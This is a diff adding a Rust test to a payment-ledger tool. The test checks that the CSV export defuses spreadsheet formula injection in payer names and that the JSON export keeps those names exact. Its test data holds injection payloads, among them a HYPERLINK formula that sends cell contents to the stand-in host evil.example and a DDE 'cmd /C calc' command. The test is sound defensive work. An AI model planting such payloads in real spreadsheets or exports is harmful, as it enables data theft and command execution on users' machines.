@@ -173,6 +173,58 @@ fn csv_has_a_header_and_a_row_per_payment() {
     );
 }
 
+/// Payer names are whatever the payer chose: a spreadsheet must not run one. The JSON keeps
+/// them exact.
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_are_text_and_json_stays_exact() {
+    let home = tempfile::tempdir().unwrap();
+    let state = home.path().join("state");
+    let ledger = Ledger::open(&state.join("paysay/ledger.sqlite3")).expect("ledger opens");
+    let names = [
+        r#"=HYPERLINK("http://evil.example/?"&A1,"点我")"#,
+        "+SUM(1,2)*cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+    ];
+    for (i, name) in names.iter().enumerate() {
+        let mut p = payment(
+            &format!("m{i}"),
+            100,
+            PaymentKind::Transfer,
+            Some(name),
+            MAY_2_0900 + i as i64,
+        );
+        p.account = (*name).to_string();
+        ledger.record(&p).expect("recorded");
+    }
+    let day = ["--since", "2024-05-02", "--until", "2024-05-02"];
+    let (stdout, stderr, ok) = paysay(home.path(), &[&["ledger", "--csv"][..], &day].concat());
+    assert!(ok, "{stderr}");
+    for line in stdout.lines().skip(1) {
+        // No cell starts with a character a spreadsheet reads as a formula.
+        let cells: Vec<&str> = line.split(',').collect();
+        for cell in cells {
+            let text = cell.trim_start_matches('"');
+            assert!(
+                !text.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{line}"
+            );
+        }
+    }
+    assert!(
+        stdout.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""点我"")""#),
+        "{stdout}"
+    );
+    assert!(stdout.contains(",'-2+3,"), "{stdout}");
+    let (json, _, ok) = paysay(home.path(), &[&["ledger", "--json"][..], &day].concat());
+    assert!(ok);
+    let payers: Vec<String> = json_lines(&json)
+        .iter()
+        .map(|l| l["payer"].as_str().unwrap().to_string())
+        .collect();
+    assert_eq!(payers, names);
+}
+
 #[test]
 fn a_backwards_range_or_a_bad_date_is_an_error() {
     let home = tempfile::tempdir().unwrap();
